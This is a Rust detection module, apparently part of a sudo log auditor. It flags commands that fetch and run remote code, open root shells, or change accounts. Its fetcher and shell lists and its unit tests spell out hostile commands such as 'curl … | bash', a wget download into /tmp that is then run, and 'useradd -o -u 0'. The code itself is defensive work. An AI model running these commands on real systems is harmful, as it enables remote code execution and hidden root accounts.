//! What a command that sudo ran says by its own words.

use super::wording::{holds, until};

/// Programs that bring files over the net.
const FETCHERS: &[&[u8]] = &[b"curl", b"wget", b"fetch", b"aria2c", b"lwp-download"];

/// Programs that run what they are given.
pub(super) const SHELLS: &[&[u8]] = &[
    b"sh", b"bash", b"dash", b"ash", b"zsh", b"ksh", b"python", b"python2", b"python3", b"perl", b"ruby", b"php",
    b"node",
];

/// Programs that only begin another.
const BEGINNERS: &[&[u8]] = &[b"sudo", b"env", b"nohup", b"exec", b"setsid", b"time", b"(", b"{"];

/// Folders in which everybody may write, and where programs lie that were just brought.
const OPEN_FOLDERS: &[&[u8]] = &[b"/tmp/", b"/var/tmp/", b"/dev/shm/"];

/// Programs that make or change accounts and groups.
const ACCOUNT_TOOLS: &[&[u8]] = &[
    b"useradd",
    b"adduser",
    b"usermod",
    b"userdel",
    b"deluser",
    b"passwd",
    b"chpasswd",
    b"gpasswd",
    b"groupadd",
    b"addgroup",
    b"groupmod",
    b"newusers",
];

/// Whether a command fetches a program over the net and runs it: `curl … | bash`, `sh -c "wget … -O /tmp/x; sh /tmp/x"`.
pub(super) fn fetches_and_runs(command: &[u8]) -> bool {
    if [&b"$(curl "[..], b"$(wget ", b"`curl ", b"`wget ", b"<(curl ", b"<(wget "]
        .iter()
        .any(|mark| holds(command, mark))
    {
        return true;
    }
    let mut has_fetched = false;
    for step in apart(command) {
        let Some(program) = begun(step).next() else { continue };
        let runs = SHELLS.contains(&name(program)) || program.starts_with(b"./") || is_in_open_folder(program);
        if has_fetched && runs {
            return true;
        }
        has_fetched |= inner(step).first().is_some_and(|program| FETCHERS.contains(&name(program)));
    }
    false
}

/// The words of each step of a command: its program, and what it is given. Of `sh -c "a b"` they are `a` and `b`.
pub(super) fn steps(command: &[u8]) -> Vec<Vec<&[u8]>> {
    apart(command).map(inner).filter(|words| !words.is_empty()).collect()
}

/// The steps of a command: `a | b; c` are three.
fn apart(command: &[u8]) -> impl Iterator<Item = &[u8]> {
    command.split(|byte| b"|;&\n".contains(byte))
}

/// Whether a path lies in a folder in which everybody may write.
pub(super) fn is_in_open_folder(path: &[u8]) -> bool {
    OPEN_FOLDERS.iter().any(|folder| path.starts_with(folder))
}

/// A step's words from its program on, without what only begins another.
fn begun(step: &[u8]) -> impl Iterator<Item = &[u8]> {
    let words = step.split(|byte| b" \t\"'".contains(byte)).filter(|word| !word.is_empty());
    words.skip_while(|word| BEGINNERS.contains(&name(word)) || word.contains(&b'='))
}

/// The same; of a shell that is given a command, that command's.
fn inner(step: &[u8]) -> Vec<&[u8]> {
    let words: Vec<&[u8]> = begun(step).collect();
    let is_shell = words.first().is_some_and(|program| SHELLS.contains(&name(program)));
    let given = words.iter().position(|word| *word == b"-c").filter(|_| is_shell);
    match given {
        Some(at) if at + 1 < words.len() => words[at + 1..].to_vec(),
        _ => words,
    }
}

/// Whether a command makes or changes the account or the group of this name.
pub fn changes_account(command: &[u8], account: &[u8]) -> bool {
    let mut words = command.split(|byte| b" \t\"'=:,;|".contains(byte));
    let is_tool = command.split(|byte| b" ;|&\"'".contains(byte)).any(|word| ACCOUNT_TOOLS.contains(&name(word)));
    is_tool && !account.is_empty() && words.any(|word| word == account)
}

/// Whether a command makes its user root until he leaves: a shell, or `su`.
pub fn is_root_shell(command: &[u8]) -> bool {
    let words: Vec<&[u8]> = begun(command).collect();
    let Some((program, rest)) = words.split_first() else { return command == b"root" };
    let is_plain =
        rest.iter().all(|word| word.starts_with(b"-") || *word == b"root") && !rest.contains(&b"-c".as_slice());
    is_plain && (SHELLS.contains(&name(program)) || matches!(name(program), b"su" | b"root"))
}

/// A program's name without its folder.
pub(super) fn name(program: &[u8]) -> &[u8] {
    let start = memchr::memrchr(b'/', program).map_or(0, |at| at + 1);
    until(&program[start..], b' ')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ok_what_is_fetched_and_run() {
        for (command, is) in [
            ("/usr/bin/bash -c curl -s http://192.0.2.9/x.sh | bash", true),
            ("/bin/sh -c 'wget -qO- http://192.0.2.9/x | sh'", true),
            ("/usr/bin/sh -c \"curl -fsSL https://get.example.com | sudo bash\"", true),
            ("/bin/bash -c bash <(curl -s http://192.0.2.9/x)", true),
            ("/bin/sh -c wget http://192.0.2.9/x -O /tmp/x; chmod +x /tmp/x; /tmp/x", true),
            ("/bin/sh -c curl http://192.0.2.9/x | env A=1 python3 -", true),
            ("/usr/bin/curl -fsSL https://example.com/key -o /etc/apt/keyrings/a.gpg", false),
            ("/usr/bin/wget https://example.com/a.tar.gz", false),
            ("/bin/sh -c curl http://127.0.0.1/health | grep ok", false),
            ("/usr/bin/apt install curl && /bin/bash", false),
            ("/bin/bash", false),
            ("/bin/cat curl | sh.txt", false),
            ("", false),
        ] {
            assert_eq!(fetches_and_runs(command.as_bytes()), is, "{command}");
        }
    }

    #[test]
    fn ok_shells_that_stay() {
        for (command, is) in [
            ("/bin/bash", true),
            ("/usr/bin/su -", true),
            ("/usr/bin/su - root", true),
            ("root", true),
            ("/bin/bash -c id", false),
            ("/bin/bash /tmp/a.sh", false),
            ("/usr/bin/su ann", false),
            ("/bin/ls", false),
            ("", false),
        ] {
            assert_eq!(is_root_shell(command.as_bytes()), is, "{command}");
        }
    }

    #[test]
    fn ok_whose_account_a_command_changes() {
        for (command, account, is) in [
            ("/usr/sbin/useradd -o -u 0 eve", "eve", true),
            ("/usr/sbin/usermod -aG sudo eve", "eve", true),
            ("/bin/sh -c echo eve:x | chpasswd", "eve", true),
            ("/usr/sbin/useradd evelyn", "eve", false),
            ("/bin/cat /home/eve", "eve", false),
            ("/usr/sbin/useradd eve", "", false),
        ] {
            assert_eq!(changes_account(command.as_bytes(), account.as_bytes()), is, "{command}");
        }
    }
}
